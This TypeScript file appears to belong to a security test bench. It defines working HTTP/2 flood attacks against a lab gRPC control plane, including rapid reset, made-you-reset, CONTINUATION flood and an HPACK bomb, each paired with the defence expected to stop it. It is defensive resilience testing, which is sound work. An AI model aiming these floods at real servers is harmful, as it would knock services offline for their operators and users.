import { once } from 'node:events';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Lab } from '../../bench/lab/lab.js';
import type { Attack } from '../attack.js';
import { startAttacked, TOKENS } from '../lab/control-plane.js';
import { FRAME, frame, headerBlock, PREFACE } from '../../support/grpc/http2-frames.js';

/** How long an attacker goes on who is not stopped. Milliseconds. */
const ATTACK_MS = 3_000;
/** Bytes that are written at once. */
const CHUNK = 64 * 1_024;

const GET = {
  ':method': 'POST',
  ':scheme': 'http',
  ':path': '/switchboard.v1.RegistryService/GetServer',
  ':authority': 'localhost',
  'content-type': 'application/grpc',
  te: 'trailers',
};
const GET_HEADERS = headerBlock(GET);
const READER_HEADERS = headerBlock({ ...GET, authorization: `Bearer ${TOKENS.reader}` });

interface FloodAttack extends Pick<Attack, 'name' | 'about' | 'defence'> {
  /** Default: that it ends the connection. */
  readonly held?: RegExp;
  /** MiB. Default 64. */
  readonly maxGrowthMiB?: number;
  /** The n-th frames of the flood, from 0. */
  readonly frames: (n: number) => Buffer;
}

const ENDS = /^the connection was closed$/;
/** Of what costs about as much to receive as to send. */
const ANY_END = /^(the connection was closed|ignored or answered)$/;

/** A peer that sends one kind of frame as fast as it can. */
function floodAttack({ frames, held = ENDS, maxGrowthMiB = 64, ...rest }: FloodAttack): Attack {
  return {
    ...rest,
    target: 'control plane',
    held,
    maxGrowthMiB,
    async open(lab) {
      const { address, ...attacked } = await startAttacked(lab);
      return { ...attacked, attack: () => flood(lab, address, frames) };
    },
  };
}

async function flood(lab: Lab, address: string, frames: FloodAttack['frames']): Promise<string> {
  const socket = await connect(lab, address);
  // Each wait for room leaves a listener until there is room again.
  socket.setMaxListeners(0);
  socket.resume();
  socket.write(Buffer.concat([PREFACE, frame({ type: FRAME.settings })]));
  const end = performance.now() + ATTACK_MS;
  let sent = 0;
  while (!socket.destroyed && performance.now() < end) {
    const chunk: Buffer[] = [];
    for (let size = 0; size < CHUNK; sent += 1) {
      const next = frames(sent);
      chunk.push(next);
      size += next.length;
    }
    const isRoom = socket.write(Buffer.concat(chunk));
    if (!isRoom) await Promise.race([until(socket, 'drain'), until(socket, 'close'), sleep(100)]);
  }
  return socket.destroyed ? 'the connection was closed' : 'ignored or answered';
}

// Not `once`, which rejects when the socket breaks: here that is what may happen.
function until(socket: net.Socket, event: 'drain' | 'close'): Promise<void> {
  return new Promise((resolve) => socket.once(event, () => resolve()));
}

/** A plain socket to an address; gone with the lab. Errors only close it. */
export async function connect(lab: Lab, address: string): Promise<net.Socket> {
  const [host = '', port = ''] = address.split(':');
  const socket = net.connect({ host, port: Number(port) });
  lab.defer(() => void socket.destroy());
  await once(socket, 'connect');
  socket.on('error', () => undefined);
  return socket;
}

const END_STREAM = 0x1;
const ONE_HEADER = 0x4;
const CANCEL = 8;
const streamOf = (n: number): number => (2 * n + 1) % 2 ** 31;

function call(n: number, { flags = 0, headers = GET_HEADERS } = {}): Buffer {
  const stream = streamOf(n);
  return frame({ type: FRAME.headers, flags: ONE_HEADER | flags, stream, payload: headers });
}

function reset(n: number): Buffer {
  return frame({ type: FRAME.rstStream, stream: streamOf(n), payload: uint32(CANCEL) });
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const WASTED = 'Calls that lead to nothing have a rate for each connection; beyond it, it ends.';
const NGHTTP2 = 'The HTTP/2 library ends connections that break the protocol or flood it.';
const CHEAP = 'Such frames keep nothing, and cost little more than their bytes.';

/** A header of 4,000 bytes that enters the table of the decoder, and references to it. */
const TABLE_ENTRY = Buffer.concat([
  Buffer.from([0x40]),
  headerBlock({ 'x-large': 'x'.repeat(4_000) }).subarray(1),
]);
const TABLE_REFERENCES = Buffer.alloc(16_000, 0xbe);

/** Floods of frames. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  floodAttack({
    name: 'rapid reset',
    about: 'Calls without credentials, each reset at once (CVE-2023-44487).',
    defence: WASTED,
    frames: (n) => Buffer.concat([call(n), reset(n)]),
  }),
  floodAttack({
    name: 'rapid reset with a token',
    about: 'Calls of a reader, each reset at once.',
    defence: WASTED,
    frames: (n) => Buffer.concat([call(n, { headers: READER_HEADERS }), reset(n)]),
  }),
  floodAttack({
    name: 'made you reset',
    about: 'Calls that break a rule, so that the server resets them (CVE-2025-8671).',
    defence: WASTED,
    frames: (n) =>
      Buffer.concat([
        call(n),
        frame({ type: FRAME.windowUpdate, stream: streamOf(n), payload: uint32(0) }),
      ]),
  }),
  floodAttack({
    name: 'calls without credentials',
    about: 'Calls without credentials and without a body, as fast as they can be sent.',
    defence: WASTED,
    frames: (n) => call(n, { flags: END_STREAM }),
  }),
  floodAttack({
    name: 'calls with a token',
    about: 'Calls of a reader without a body, as fast as they can be sent.',
    defence: 'A connection has at most 1,000 calls at once.',
    held: ANY_END,
    maxGrowthMiB: 128,
    frames: (n) => call(n, { flags: END_STREAM, headers: READER_HEADERS }),
  }),
  floodAttack({
    name: 'calls that stay open',
    about: 'Calls of a reader that never end, far more than a connection may have.',
    defence: 'A connection has at most 1,000 calls at once; others are refused.',
    held: ANY_END,
    maxGrowthMiB: 128,
    frames: (n) => call(n, { headers: READER_HEADERS }),
  }),
  floodAttack({
    name: 'PING flood',
    about: 'PING frames, each of which wants an answer.',
    defence: NGHTTP2,
    frames: () => frame({ type: FRAME.ping, payload: Buffer.alloc(8) }),
  }),
  floodAttack({
    name: 'SETTINGS flood',
    about: 'SETTINGS frames, each of which wants an acknowledgement.',
    defence: NGHTTP2,
    frames: () => frame({ type: FRAME.settings }),
  }),
  floodAttack({
    name: 'CONTINUATION flood',
    about: 'One header block without an end (CVE-2024-27316).',
    defence: NGHTTP2,
    frames: (n) =>
      n === 0
        ? frame({ type: FRAME.headers, stream: 1, payload: GET_HEADERS })
        : frame({
            type: FRAME.continuation,
            stream: 1,
            payload: headerBlock({ [`x-${String(n)}`]: 'x'.repeat(1_000) }),
          }),
  }),
  floodAttack({
    name: 'HPACK bomb',
    about: 'Header blocks of 16 KB that stand for 64 MB: references to one large header.',
    defence: `A header block has a limit after decompression. ${WASTED}`,
    held: ANY_END,
    frames: (n) =>
      call(n, {
        flags: END_STREAM,
        headers: Buffer.concat([GET_HEADERS, n === 0 ? TABLE_ENTRY : TABLE_REFERENCES]),
      }),
  }),
  floodAttack({
    name: 'WINDOW_UPDATE flood',
    about: 'WINDOW_UPDATE frames of one byte.',
    defence: CHEAP,
    held: ANY_END,
    frames: () => frame({ type: FRAME.windowUpdate, payload: uint32(1) }),
  }),
  floodAttack({
    name: 'PRIORITY flood',
    about: 'PRIORITY frames for streams that are not open.',
    defence: CHEAP,
    held: ANY_END,
    frames: (n) =>
      frame({ type: FRAME.priority, stream: streamOf(n), payload: Buffer.from([0, 0, 0, 0, 1]) }),
  }),
  floodAttack({
    name: 'frames of an unknown type',
    about: 'Empty frames of a type that HTTP/2 does not have.',
    defence: CHEAP,
    held: ANY_END,
    frames: () => frame({ type: 0xbb }),
  }),
  floodAttack({
    name: 'empty DATA frames',
    about: 'A request whose body is DATA frames without a byte.',
    defence: CHEAP,
    held: ANY_END,
    frames: (n) => (n === 0 ? call(0) : frame({ type: FRAME.data, stream: 1 })),
  }),
  floodAttack({
    name: 'noise',
    about: 'Bytes that are no HTTP/2.',
    defence: NGHTTP2,
    held: ANY_END,
    frames: (n) => Buffer.alloc(1_024, n),
  }),
];
